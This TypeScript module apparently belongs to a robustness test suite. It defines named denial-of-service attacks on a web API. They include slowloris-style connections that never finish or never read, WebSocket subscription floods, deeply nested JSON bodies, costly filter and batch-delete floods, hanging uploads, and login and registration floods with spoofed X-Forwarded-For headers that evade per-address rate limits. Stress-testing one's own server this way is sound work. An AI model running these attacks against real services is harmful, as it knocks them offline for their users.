/** The attacks of the hostile suite. Each attack goes on until the signal is aborted, and lets go of everything then. */
import type { Socket } from "node:net";
import { bearer, flood, head, open, over, send, type Target } from "./raw.ts";
import { subscriptionAttacks } from "./subscriptions.ts";
import { codeAttacks } from "./user-code.ts";

/** How much of an attack is made: 1 is the long form. */
interface Strength {
  readonly signal: AbortSignal;
  readonly share: number;
}

type Attack = (target: Target, strength: Strength) => Promise<void>;

const json = { "Content-Type": "application/json" };

/** Opens connections, a few at a time, and holds the connections until the end. */
async function hold(
  target: Target,
  { signal }: Strength,
  { count, use }: { count: number; use: (socket: Socket, n: number) => void },
): Promise<void> {
  const sockets: Socket[] = [];
  for (let n = 0; n < count && !signal.aborted; n += 50) {
    const opened = await Promise.all(Array.from({ length: Math.min(50, count - n) }, () => open(target)));
    for (const socket of opened) {
      if (socket === null) continue;
      sockets.push(socket);
      use(socket, sockets.length);
    }
  }
  await over(signal);
  for (const socket of sockets) socket.destroy();
}

/** Sends a request and never reads the answer. */
function unread(target: Target, path: string, token?: string): (socket: Socket) => void {
  return (socket) => {
    socket.pause();
    socket.write(head(target, `GET ${path}`, token === undefined ? {} : bearer(token)));
  };
}

/** The first bytes of a WebSocket's connection. */
function upgrade(target: Target, token: string | undefined): string {
  return head(target, `GET /api/realtime${token === undefined ? "" : `?token=${token}`}`, {
    Connection: "Upgrade",
    Upgrade: "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
  });
}

/** A text frame with a mask of zeros (RFC 6455, 5.2). */
function frame(text: string): Buffer {
  const payload = Buffer.from(text);
  const { length } = payload;
  const size = length < 126 ? [0x80 | length] : [0xfe, length >> 8, length & 0xff];
  return Buffer.concat([Buffer.from([0x81, ...size, 0, 0, 0, 0]), payload]);
}

const subscribe = (channel: unknown, since?: string): Buffer =>
  frame(JSON.stringify({ action: "subscribe", channel, ...(since === undefined ? {} : { since }) }));

export const attacks: { readonly [name: string]: Attack } = {
  "logins whose bodies never end": async (target, strength) => {
    const line = head(target, "POST /api/auth/login", { ...json, "Content-Length": "1000000" });
    const dripping = new Set<Socket>();
    const timer = setInterval(() => {
      for (const socket of dripping) if (!socket.destroyed) socket.write(" ");
    }, 1_000);
    await hold(target, strength, {
      count: Math.round(2_000 * strength.share),
      use(socket) {
        dripping.add(socket);
        socket.write(line);
      },
    });
    clearInterval(timer);
  },

  "large lists that nobody reads": (target, strength) =>
    hold(target, strength, { count: Math.round(400 * strength.share), use: unread(target, "/api/big") }),

  "large pages that nobody reads": (target, strength) =>
    hold(target, strength, { count: Math.round(400 * strength.share), use: unread(target, "/api/big?limit=1000") }),

  "expanded pages that nobody reads": (target, strength) =>
    hold(target, strength, {
      count: Math.round(400 * strength.share),
      use: (socket, n) => unread(target, `/api/links?limit=16&expand=to&n=${n}`)(socket),
    }),

  "lists that are broken off": (target, { signal }) => {
    const paths = ["/api/pages?limit=1000", "/api/pages", "/api/big", "/api/pages?limit=1000&sort=n"];
    return flood(signal, 8, async (n) => {
      const socket = await open(target);
      if (socket === null) return;
      socket.write(head(target, `GET ${paths[n % paths.length]}`));
      await new Promise<void>((resolve) => {
        socket.once("data", () => resolve());
        socket.once("close", () => resolve());
      });
      socket.destroy();
    });
  },

  registrations: (target, { signal, share }) =>
    flood(signal, Math.round(100 * share), (n) => {
      const body = JSON.stringify({ email: `flood-${process.pid}-${n}@example.com`, password: "a long password" });
      // Each request from a different address: no bound per address helps.
      const headers = { ...json, "X-Forwarded-For": `203.0.${(n >> 8) & 255}.${n & 255}` };
      return send(target, "/api/auth/register", { method: "POST", headers, body });
    }),

  "logins with wrong passwords": (target, { signal, share }) =>
    flood(signal, Math.round(100 * share), (n) => {
      const body = JSON.stringify({ email: `nobody-${n}@example.com`, password: "wrong password" });
      const headers = { ...json, "X-Forwarded-For": `203.0.${(n >> 8) & 255}.${n & 255}` };
      return send(target, "/api/auth/login", { method: "POST", headers, body });
    }),

  refreshes: (target, { signal }) =>
    flood(signal, 50, () => {
      const body = JSON.stringify({ refreshToken: target.made["refreshToken"] });
      return send(target, "/api/auth/refresh", { method: "POST", headers: json, body });
    }),

  "sockets that do not read": async (target, strength) => {
    const writing = flood(strength.signal, 4, () => {
      const body = JSON.stringify({ text: "x".repeat(20_000) });
      return send(target, "/api/notes", { method: "POST", headers: { ...json, ...bearer(target.tokens[0]) }, body });
    });
    await hold(target, strength, {
      count: Math.round(1_000 * strength.share),
      use(socket) {
        socket.pause();
        socket.write(upgrade(target, target.tokens[0]));
        socket.write(subscribe("notes.*"));
      },
    });
    await writing;
  },

  "subscriptions to collections that are not there": (target, strength) =>
    hold(target, strength, {
      count: Math.round(3_000 * strength.share),
      use(socket, n) {
        socket.resume();
        socket.write(upgrade(target, undefined));
        for (let i = 0; i < 50; i++) socket.write(subscribe(`nothing_${n}_${i}.*`));
      },
    }),

  "frames that cost work": (target, strength) =>
    hold(target, strength, {
      count: Math.round(20 * strength.share),
      use(socket) {
        socket.resume();
        socket.write(upgrade(target, target.tokens[0]));
        const large = subscribe(Array(20_000).fill("a"));
        const again = subscribe("notes.*", target.made["since"]);
        const more = (): void => {
          if (strength.signal.aborted || socket.destroyed) return;
          const hasRoom = socket.write(large) && socket.write(again);
          if (hasRoom) setTimeout(more, 1);
          else socket.once("drain", more);
        };
        more();
      },
    }),

  "slow filters": (target, { signal, share }) =>
    flood(signal, Math.max(2, Math.round(10 * share)), (n) => {
      const filter = encodeURIComponent(`text ~ "never there ${n}" || text ~ "nor this"`);
      return send(target, `/api/pages?filter=${filter}&count=exact`, { headers: bearer(target.tokens[0]) });
    }),

  "slow filters of eight users": (target, { signal }) =>
    flood(signal, 2 * target.crowd.length, (n) => {
      // Letters beyond ASCII: each text is read again for each term.
      const terms = Array.from({ length: 40 }, (_, i) => `text ~ "é${n}.${i}"`);
      return send(target, `/api/pages?filter=${encodeURIComponent(terms.join(" || "))}`, {
        headers: bearer(target.crowd[n % target.crowd.length]),
      });
    }),

  "thumbnails of clients that hang up": (target, { signal }) =>
    flood(signal, 16, async (n) => {
      const socket = await open(target);
      if (socket === null) return;
      socket.write(head(target, `GET ${target.made["image"]}?thumb=${1 + (n % 2_000)}x${1 + ((n * 7) % 2_000)}`));
      await Bun.sleep(5);
      socket.destroy();
    }),

  uploads: (target, { signal }) => {
    const bytes = "x".repeat(2 * 1024 * 1024);
    return flood(signal, 16, (n) => {
      const body = new FormData();
      body.set("file", new File([bytes], `${n}.bin`));
      return send(target, "/api/storage/upload", { method: "POST", headers: bearer(target.tokens[1]), body });
    });
  },

  "tiny updates of a large record": (target, { signal }) =>
    flood(signal, 4, (n) =>
      send(target, `/api/big/${target.made["large"]}`, {
        method: "PUT",
        headers: { ...json, ...bearer(target.tokens[0]) },
        body: JSON.stringify({ n }),
      }),
    ),

  "bodies with 500 unknown fields": (target, { signal }) => {
    const names = Array.from({ length: 500 }, (_, n) => [`${"field_that_is_not_there_".repeat(2)}${n}`, n]);
    const body = JSON.stringify(Object.fromEntries(names));
    return flood(signal, 8, () =>
      send(target, "/api/notes", { method: "POST", headers: { ...json, ...bearer(target.tokens[0]) }, body }),
    );
  },

  "large bodies that mean nothing": (target, { signal, share }) => {
    const keys = Array.from({ length: 40_000 }, (_, n) => [`unknown_field_${n}`, n]);
    const bodies = [
      `{"text":[${"[],".repeat(299_000)}0]}`,
      `{"text":${"[".repeat(450_000)}${"]".repeat(450_000)}}`,
      JSON.stringify(Object.fromEntries(keys)),
    ];
    const headers = { ...json, ...bearer(target.tokens[0]) };
    return flood(signal, Math.max(8, Math.round(32 * share)), (n) =>
      send(target, "/api/notes", { method: "POST", headers, body: bodies[n % bodies.length] ?? "" }),
    );
  },

  "batches of searched records of eight users": (target, { signal }) => {
    const text = Array.from({ length: 30 }, (_, n) => `word${(n * 7919) % 4_001}`).join(" ");
    const create = { method: "create", collection: "articles", body: { title: "An article", text } };
    const body = JSON.stringify({ operations: Array.from({ length: 1_000 }, () => create) });
    return flood(signal, 8, (n) =>
      send(target, "/api/batch", { method: "POST", headers: { ...json, ...bearer(target.crowd[n % 8]) }, body }),
    );
  },

  "deletions that take five thousand records along": (target, { signal, share }) => {
    const batches = Math.max(1, Math.round(5 * share));
    return flood(signal, 8, async (n) => {
      const headers = { ...json, ...bearer(target.crowd[n % 8]), "X-Forwarded-For": target.address };
      const ask = (path: string, body: unknown): Promise<Response | null> =>
        fetch(`${target.url}${path}`, { method: "POST", headers, body: JSON.stringify(body) }).catch(() => null);
      const answer = await ask("/api/threads", { text: "a thread" });
      if (answer?.status !== 201) return;
      const { id } = (await answer.json()) as { id: string };
      const create = { method: "create", collection: "replies", body: { to: id } };
      const operations = Array.from({ length: 1_000 }, () => create);
      for (let batch = 0; batch < batches; batch++) await (await ask("/api/batch", { operations }))?.arrayBuffer();
      await send(target, `/api/threads/${id}`, { method: "DELETE", headers });
    });
  },

  "uploads that hang near their end": (target, strength) => {
    const form = '--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n';
    const part = Buffer.alloc(1024 ** 2);
    return hold(target, strength, {
      count: Math.round(200 * strength.share),
      use(socket) {
        const headers = { ...bearer(target.tokens[1]), "Content-Type": "multipart/form-data; boundary=x" };
        socket.write(head(target, "POST /api/storage/upload", { ...headers, "Content-Length": "10000000" }) + form);
        for (let n = 0; n < 9; n++) socket.write(part);
      },
    });
  },

  "idle connections": (target, strength) =>
    hold(target, strength, { count: Math.round(3_000 * strength.share), use: (socket) => socket.resume() }),

  ...subscriptionAttacks,
  ...codeAttacks,
};
